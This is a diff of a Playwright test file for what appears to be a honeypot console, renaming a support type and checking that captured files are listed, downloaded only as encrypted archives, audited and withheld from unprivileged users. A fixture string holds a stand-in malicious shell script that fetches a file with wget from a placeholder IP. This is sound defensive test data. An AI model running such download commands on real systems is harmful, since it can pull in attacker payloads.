@@ -3,7 +3,7 @@ import { createHash } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
 import { describe, it } from 'node:test';
 import type { Page } from 'playwright-core';
-import { type Desk, openConsole } from '../support/console/open.ts';
+import { type ConsoleLab, openConsole } from '../support/console/open.ts';
 
 const script = '#!/bin/sh\nwget http://203.0.113.9/x\n';
 const sha256 = createHash('sha256').update(script).digest('hex');
@@ -19,27 +19,31 @@ const visit = (session: string) => ({
   extra: { session },
 });
 
-async function keep(desk: Desk, session: string, name: string, bytes = script): Promise<void> {
+async function keep(lab: ConsoleLab, session: string, name: string, bytes = script): Promise<void> {
   const query = new URLSearchParams({ session, ...(name === '' ? {} : { name }) });
-  const { status } = await fetch(`${desk.server.address}/api/captures?${query}`, {
+  const { status } = await fetch(`${lab.server.address}/api/captures?${query}`, {
     method: 'POST',
-    headers: { 'x-node-key': desk.node.key },
+    headers: { 'x-node-key': lab.node.key },
     body: bytes,
   });
   assert.equal(status, 200);
 }
 
-async function openSession(desk: Desk, name: string, options?: Parameters<Desk['open']>[1]): Promise<Page> {
-  return desk.open(`/sessions/${encodeURIComponent(`${desk.node.id}~${name}`)}`, options);
+async function openSession(
+  lab: ConsoleLab,
+  name: string,
+  options?: Parameters<ConsoleLab['open']>[1],
+): Promise<Page> {
+  return lab.open(`/sessions/${encodeURIComponent(`${lab.node.id}~${name}`)}`, options);
 }
 
 describe('the captured files of a session', () => {
   it('are listed with what is known of them, and downloaded as an encrypted archive', async (t) => {
-    const desk = await openConsole(t, { events: ['s1', 's2', 's3'].map(visit) });
-    await keep(desk, 's1', hostile);
-    await keep(desk, 's2', 'x.sh');
-    await keep(desk, 's1', '', 'other');
-    const page = await openSession(desk, 's1');
+    const lab = await openConsole(t, { events: ['s1', 's2', 's3'].map(visit) });
+    await keep(lab, 's1', hostile);
+    await keep(lab, 's2', 'x.sh');
+    await keep(lab, 's1', '', 'other');
+    const page = await openSession(lab, 's1');
     const files = page.getByRole('region', { name: 'Captured files' });
     await files.waitFor();
     const items = files.getByRole('list').first().locator('> li');
@@ -54,7 +58,7 @@ describe('the captured files of a session', () => {
       /no name.*no other session/,
     );
     assert.match((await files.textContent()) ?? '', /password is infected\./);
-    await desk.check(page);
+    await lab.check(page);
 
     const saving = page.waitForEvent('download');
     await file.getByRole('button', { name: `Download archive of ${sha256}` }).click();
@@ -64,8 +68,8 @@ describe('the captured files of a session', () => {
     assert.equal(zip.subarray(0, 4).toString('latin1'), 'PK\x03\x04');
     assert.equal((zip[6] ?? 0) & 1, 1, 'the archive is not encrypted');
     assert.ok(!zip.includes(script));
-    const audit = await desk.server.call<{ items: { kind: string }[] }>('GET', '/api/audit', {
-      headers: desk.user.headers,
+    const audit = await lab.server.call<{ items: { kind: string }[] }>('GET', '/api/audit', {
+      headers: lab.user.headers,
     });
     assert.equal(audit.body.items[0]?.kind, 'Captured file downloaded');
 
@@ -75,15 +79,15 @@ describe('the captured files of a session', () => {
     assert.equal(await items.count(), 1);
 
     // A session without files says nothing of them.
-    const none = await openSession(desk, 's3');
+    const none = await openSession(lab, 's3');
     await none.getByRole('heading', { name: 'Transcript' }).waitFor();
     assert.equal(await none.getByText('Captured files').count(), 0);
   });
 
   it('stay on the server for who may not see secrets, also in German and on a phone', async (t) => {
-    const desk = await openConsole(t, { events: [visit('s1')] });
-    await keep(desk, 's1', 'x.sh');
-    const page = await openSession(desk, 's1', { width: 390, height: 844, theme: 'dark', locale: 'de-DE' });
+    const lab = await openConsole(t, { events: [visit('s1')] });
+    await keep(lab, 's1', 'x.sh');
+    const page = await openSession(lab, 's1', { width: 390, height: 844, theme: 'dark', locale: 'de-DE' });
     // Whoever signs in may: the server's answer to a right that was taken away.
     await page.route('**/api/captures/*/archive', (route) =>
       route.fulfill({
@@ -100,6 +104,6 @@ describe('the captured files of a session', () => {
     await button.click();
     await files.getByText('Zum Herunterladen braucht es das Recht, Passwörter zu zeigen.').waitFor();
     assert.equal(await button.count(), 0);
-    await desk.check(page, { expected: /403/ });
+    await lab.check(page, { expected: /403/ });
   });
 });
